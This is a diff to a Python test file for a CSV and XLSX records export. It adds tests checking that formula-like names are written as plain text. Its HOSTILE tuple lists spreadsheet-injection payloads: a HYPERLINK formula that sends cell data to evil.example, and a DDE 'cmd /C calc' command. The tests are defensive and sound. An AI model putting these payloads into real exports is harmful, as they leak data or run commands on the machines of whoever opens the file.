@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
+import io
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -35,7 +37,8 @@ def row(n: int, *, status: int = 7, naive: bool = False) -> RecordRow:
 def read_csv(path: Path) -> list[list[str]]:
     raw = path.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")
-    return list(csv.reader(raw.decode("utf-8-sig").splitlines()))
+    # newline="" as the csv module asks: a CR inside a quoted cell is part of the cell
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
 
 
 def test_csv_has_the_labels_the_rows_and_local_times(tmp_path: Path) -> None:
@@ -97,3 +100,45 @@ def test_file_name_is_dated_in_local_time() -> None:
     name = export_name("xlsx", now=datetime(2025, 11, 20, 16, 30, 0, tzinfo=UTC))
     assert name == "出口退货信息_20251121_003000.xlsx"
     assert local_time(None) == ""
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def hostile_rows() -> list[RecordRow]:
+    """Names as an operator could type them: each one a formula if a spreadsheet took it so."""
+    return [
+        dataclasses.replace(row(n), consignee_name=text, producer_name=f"{text}公司")
+        for n, text in enumerate(HOSTILE, start=1)
+    ]
+
+
+def test_csv_writes_formula_like_values_as_text(tmp_path: Path) -> None:
+    path = tmp_path / "f.csv"
+    export_rows(hostile_rows(), ["unified_no", "consignee_name", "producer_name"], path)
+    rows = read_csv(path)[1:]
+    assert [r[1] for r in rows] == [f"'{text}" for text in HOSTILE]
+    assert [r[2] for r in rows] == [f"'{text}公司" for text in HOSTILE]
+    assert rows[0][0] == "202500000000000001"  # ordinary values untouched
+    triggers = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for r in rows for cell in r if cell.startswith(triggers)]
+
+
+def test_xlsx_writes_formula_like_values_as_string_cells(tmp_path: Path) -> None:
+    path = tmp_path / "f.xlsx"
+    export_rows(hostile_rows(), ["unified_no", "consignee_name", "status"], path)
+    sheet = load_workbook(path).active
+    cells = [c for line in sheet.iter_rows(min_row=2) for c in line]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    names = [line[1] for line in sheet.iter_rows(min_row=2)]
+    # the exact text, no apostrophe (an XML reader turns a raw CR into LF: XML 1.0 section 2.11)
+    assert [c.value for c in names] == [text.replace("\r", "\n") for text in HOSTILE]
+    assert all(c.data_type == "s" and c.quotePrefix for c in names)
+    assert sheet["A2"].value == "202500000000000001" and not sheet["A2"].quotePrefix
